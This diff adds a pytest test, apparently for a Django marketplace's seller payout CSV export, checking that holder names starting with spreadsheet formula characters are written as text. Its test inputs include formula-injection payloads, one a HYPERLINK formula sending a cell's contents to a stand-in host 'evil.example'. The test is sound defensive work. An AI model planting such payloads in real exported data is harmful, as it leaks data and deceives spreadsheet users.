@@ -83,6 +83,28 @@ def test_the_transfer_file_lists_each_seller_rib_and_amount():
     assert rows[1][:4] == ["Poterie Fassi", VALID_RIB, "330.00", "MAD"]
 
 
+@pytest.mark.parametrize(
+    "holder",
+    [
+        '=HYPERLINK("https://evil.example/?x="&B2;"Cliquez")',
+        "+212600000000",
+        "-1+1",
+        "@SUM(1;1)",
+        "\t=1+1",
+        "\r=1+1",
+    ],
+)
+def test_a_holder_name_a_spreadsheet_would_run_is_written_as_text(holder):
+    seller = _seller_with_balance("Poterie Fassi", "330.00")
+    SellerPayoutAccount.objects.filter(seller=seller).update(holder_name=holder)
+    batch = payouts_settle()
+
+    rows = list(csv.reader(io.StringIO(payout_batch_csv(batch=batch)), delimiter=";"))
+
+    assert rows[1][0] == "'" + holder
+    assert rows[1][1:4] == [VALID_RIB, "330.00", "MAD"]
+
+
 def test_a_batch_is_marked_paid_once_the_bank_confirms():
     _seller_with_balance("Poterie Fassi", "330.00")
     batch = payouts_settle()
